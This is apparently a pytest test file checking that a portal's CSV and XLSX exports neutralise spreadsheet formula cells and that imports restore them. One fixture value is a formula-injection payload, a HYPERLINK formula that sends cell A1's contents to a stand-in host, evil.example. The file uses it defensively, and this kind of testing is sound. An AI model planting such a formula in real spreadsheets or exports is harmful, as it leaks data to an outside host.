"""Exports neutralise formula cells (CSV and XLSX); imports restore them."""

import csv
import io

import openpyxl
import pytest

from portal.imports.formats import neutralise, restore
from resources.models import Resource
from tests import factories
from tests.imports.conftest import FORMATS, SHEETS, export_file, import_file

pytestmark = pytest.mark.usefixtures("postgres")

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_gets_an_apostrophe(trigger):
    assert neutralise(f"{trigger}1+1") == f"'{trigger}1+1"
    assert restore(neutralise(f"{trigger}1+1")) == f"{trigger}1+1"


def test_plain_cells_and_numbers_are_left_alone():
    assert neutralise("Kenya") == "Kenya"
    assert neutralise(-5) == -5
    assert restore("'quoted") == "'quoted"


@pytest.fixture
def hostile(db):
    return factories.ResourceFactory(
        slug="hostile",
        title_ru="@SUM(1)",
        title_en=HYPERLINK,
        summary_en="+33 1 00 00 00 00",
        publisher_en="-UNCCT",
    )


def test_csv_export_neutralises_formulae(hostile):
    data = export_file(SHEETS["resources"], Resource.objects.all(), FORMATS["csv"])

    header, row = list(csv.reader(io.StringIO(data)))
    cells = dict(zip(header, row, strict=True))
    assert cells["title_ru"] == "'@SUM(1)"
    assert cells["title_en"] == "'" + HYPERLINK
    assert cells["summary_en"] == "'+33 1 00 00 00 00"
    assert cells["publisher_en"] == "'-UNCCT"
    assert cells["slug"] == "hostile"


def test_xlsx_export_has_no_formula_cell(hostile):
    data = export_file(SHEETS["resources"], Resource.objects.all(), FORMATS["xlsx"])

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert "'@SUM(1)" in values and "'" + HYPERLINK in values
    # Dates stay dates: only text is escaped.
    assert any(cell.is_date for cell in cells)


@pytest.mark.parametrize("fmt", FORMATS.values(), ids=FORMATS.keys())
def test_a_neutralised_export_imports_back_unchanged(hostile, publisher, fmt):
    data = export_file(SHEETS["resources"], Resource.objects.all(), fmt)

    result = import_file(SHEETS["resources"], data, fmt, user=publisher)

    assert result.totals["skip"] == 1
    hostile.refresh_from_db()
    assert (hostile.title_ru, hostile.title_en) == ("@SUM(1)", HYPERLINK)
